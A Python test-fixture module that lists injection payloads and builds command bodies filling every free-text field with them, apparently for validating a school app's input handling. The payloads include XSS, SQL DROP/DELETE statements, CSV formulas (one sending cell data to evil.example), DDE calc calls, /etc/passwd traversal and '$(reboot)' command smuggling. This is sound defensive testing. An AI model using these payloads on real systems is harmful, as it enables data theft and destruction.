"""Classic attacks by text, each kind in a few short forms, and bodies of every command to put them into.

Chosen by us after the families that OWASP's testing guide (WSTG, input validation) names; each is short enough for a
name, so that it comes past the limits into whatever would interpret it.
"""

from __future__ import annotations

from collections.abc import Iterator, Mapping
from datetime import date
from typing import Any

from ejd.kernel.command import Command
from ejd_commands import fields as f
from tests import worlds as w
from tests.scenario import uid

XSS = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "'-alert(1)-'",
    "</title><svg/onload=alert(1)>",
    "javascript:alert(1)//",
    "{{7*7}}${7*7}<%= 7*7 %>#{7*7}",
    "--><iframe srcdoc='<script>alert(1)</script>'>",
    "]]></script><!--",
    "&lt;script&gt;alert(1)&#60;/script&#62;",
    "＜script＞alert(1)＜/script＞",
)
SQL = (
    "' OR '1'='1' --",
    "1); DROP TABLE events; --",
    "Robert'); DELETE FROM commands WHERE ('a'='a",
    "' UNION SELECT wrapped FROM person_keys --",
    '" OR ""="',
    "\\'; SELECT pg_sleep(9) --",
    "%' AND 1=randomblob(99) || '_",
    "$$; SELECT 1; $$ %s %(name)s ? :name",
)
FORMULAS = (
    '=HYPERLINK("http://evil.example?"&A1,"x")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "＝1+1",
    "=1+1;=2+2",
    '"=1+1',
)
PATHS = (
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "/etc/passwd",
    "C:\\boot.ini",
    "file:///etc/passwd",
    "CON",
    "NUL.csv",
    "....//....//etc/passwd",
    "a;b.csv",
    "-rf",
    "$(reboot)`reboot`|reboot&",
    "～/．．／x",
)
BROKEN = (
    "a\x00b",
    "a\r\nSet-Cookie: x=1",
    "a\nb: c",
    "a\u202etxt.exe",
    "a\ufeff\u200bb",
    "\u0000",
    "e\u0301" * 30,
    "\U0001f469\u200d\U0001f467" * 10,
)
"""Control characters, directions, what is invisible, and what Unicode composes: refused or cleaned, never a fault."""

KNOWN: Mapping[str, str] = {
    "absent_teacher": w.ADA_STAFF,
    "account": w.STRANGER,
    "class_id": w.CLASS_5A,
    "guardian": w.PARENT_GUARDIAN,
    "journal": w.JOURNAL,
    "pupil": w.VERA,
    "room": w.ROOM_12,
    "staff": w.ADA_STAFF,
    "subject": w.MATHS,
    "teacher": w.BORIS_STAFF,
    "year": w.YEAR,
}
"""Ids of the tiny school by the field that names them; any other id is nobody's."""
PATTERNS: Mapping[str, str] = {f.CODE_PATTERN: "quarters", f.DIGEST_PATTERN: "0" * 64, f.TOKEN_ID_PATTERN: "0" * 16}
FORMATS: Mapping[str, str] = {"date": "2025-10-06", "date-time": "2025-10-06T09:00:00+00:00"}


class Body:
    """Makes a body of a command from its schema: its texts are an attack, everything else fits."""

    def __init__(self, command: type[Command]) -> None:
        """Take the command's class."""
        self._schema = command.model_json_schema()
        self._defs: Mapping[str, Any] = self._schema.get("$defs", {})

    @property
    def texts(self) -> list[str]:
        """The places of free text, such as `topics.0.topic`."""
        return list(_paths_of("\x01", self.with_text("\x01")))

    def with_text(self, text: str, example: Mapping[str, Any] | None = None) -> dict[str, Any]:
        """Answer the body with this text wherever text is free; other fields as in the example where it has them."""
        made = self._made(self._schema, "", text)
        assert isinstance(made, dict)
        for name, value in (example or {}).items():
            if not list(_paths_of(text, made.get(name))):
                made[name] = _plain(value)
        return made

    def _made(self, schema: Mapping[str, Any], name: str, text: str) -> Any:
        schema = self._resolved(schema)
        if "const" in schema or "enum" in schema:
            return schema.get("const", next(iter(schema.get("enum", ())), None))
        match schema.get("type"):
            case "object":
                return self._object(schema, text)
            case "array":
                item: Mapping[str, Any] = schema.get("items") or next(iter(schema.get("prefixItems", ())), {})
                return [self._made(item, name, text)] * max(schema.get("minItems", 0), 1)
            case "string":
                return self._string(schema, name, text)
            case "integer":
                return schema.get("minimum", 1)
            case "boolean":
                return False
            case other:
                assert other in {None, "null"}, schema
                return None

    def _object(self, schema: Mapping[str, Any], text: str) -> dict[str, Any]:
        made = {}
        for name, part in schema.get("properties", {}).items():
            value = self._made(part, name, text)
            if name in schema.get("required", ()) or list(_paths_of(text, value)):
                made[name] = value
        return made

    def _string(self, schema: Mapping[str, Any], name: str, text: str) -> str:
        if "pattern" in schema and schema.get("format") != "uuid":
            return PATTERNS.get(schema["pattern"], "quarters")
        match schema.get("format"):
            case None:
                return text
            case "uuid":
                return KNOWN.get(name, uid(f"nobody's {name}"))
            case known:
                return FORMATS.get(known, "x")

    def _resolved(self, schema: Mapping[str, Any]) -> Mapping[str, Any]:
        if "$ref" in schema:
            return self._resolved(self._defs[schema["$ref"].rpartition("/")[2]])
        for several in ("anyOf", "oneOf", "allOf"):
            if several in schema:
                first = next(one for one in schema[several] if one.get("type") != "null")
                return self._resolved(first)
        return schema


def _plain(value: Any) -> Any:
    """Answer what JSON has for it."""
    match value:
        case date():
            return value.isoformat()
        case dict():
            return {name: _plain(part) for name, part in value.items()}
        case list():
            return [_plain(part) for part in value]
        case _:
            return value


def _paths_of(text: str, value: Any, path: str = "") -> Iterator[str]:
    """Yield the places at which the text stands."""
    match value:
        case str():
            if value == text:
                yield path
        case dict():
            for name, part in value.items():
                yield from _paths_of(text, part, f"{path}.{name}".lstrip("."))
        case list():
            for number, part in enumerate(value):
                yield from _paths_of(text, part, f"{path}.{number}")


def texts_in(value: Any) -> Iterator[str]:
    """Yield every text of a JSON value, keys too."""
    match value:
        case str():
            yield value
        case dict():
            for name, part in value.items():
                yield name
                yield from texts_in(part)
        case list():
            for part in value:
                yield from texts_in(part)
